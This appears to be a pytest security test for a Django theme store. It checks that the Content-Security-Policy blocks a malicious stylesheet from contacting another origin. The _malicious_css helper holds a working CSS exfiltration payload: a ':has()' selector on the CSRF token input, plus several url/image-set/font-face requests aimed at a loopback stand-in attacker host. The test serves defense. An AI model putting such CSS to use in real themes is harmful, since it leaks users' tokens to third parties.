"""A stylesheet that got past the checks still cannot reach another origin.

The theme below is the one a creator used to read a buyer's CSRF token one
character at a time (a URL in a custom property, requested through
``image-set`` by a ``:has()`` selector), plus the other ways a stylesheet
can name a URL. It is written straight into the database as approved, as if
the checks had missed it: the Content-Security-Policy of every page is the
second layer, and a loopback listener counts what reaches it.
"""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from store.services.sales import apply_theme, purchase_theme
from tests.factories.accounts import UserFactory
from tests.factories.store import GOOD_CSS, ThemeFactory

pytestmark = pytest.mark.django_db(transaction=True)


class _Recorder(BaseHTTPRequestHandler):
    hits: list[str]

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def listener():
    hits: list[str] = []
    handler = type("Recorder", (_Recorder,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


def _malicious_css(origin: str) -> str:
    return GOOD_CSS + (
        f':root{{--x0:"{origin}/c/a"}}\n'
        "form:has(input[name=csrfmiddlewaretoken][value]){"
        "background-image:image-set(var(--x0) 1x)}\n"
        f"body{{background-image:-webkit-image-set(url({origin}/webkit) 1x)}}\n"
        f"@starting-style{{main{{background:url({origin}/starting)}}}}\n"
        f"@font-face{{font-family:leak;src:url({origin}/font.woff2)}}\n"
        "h1{font-family:leak}\n"
    )


def test_a_theme_that_names_another_origin_sends_it_nothing(page, sign_in, listener):
    origin, hits = listener
    buyer = UserFactory(email="buyer@example.com")
    theme = ThemeFactory(css=_malicious_css(origin), price_cents=0)
    purchase_theme(actor=buyer, theme=theme, idempotency_key="leak-test")
    apply_theme(actor=buyer, theme=theme)

    violations: list[str] = []
    page.on(
        "console",
        lambda message: (
            violations.append(message.text)
            if "Content Security Policy" in message.text
            else None
        ),
    )
    sign_in(buyer.email)
    page.goto(f"/accounts/{buyer.billing_account.pk}/billing/")
    stylesheet = page.locator(f'link[href^="/store/themes/{theme.pk}/theme.css"]')
    assert stylesheet.count() == 1
    page.wait_for_load_state("networkidle")

    assert hits == []
    # The browser did try: the policy, not luck, stopped it.
    assert any(origin in text for text in violations), violations
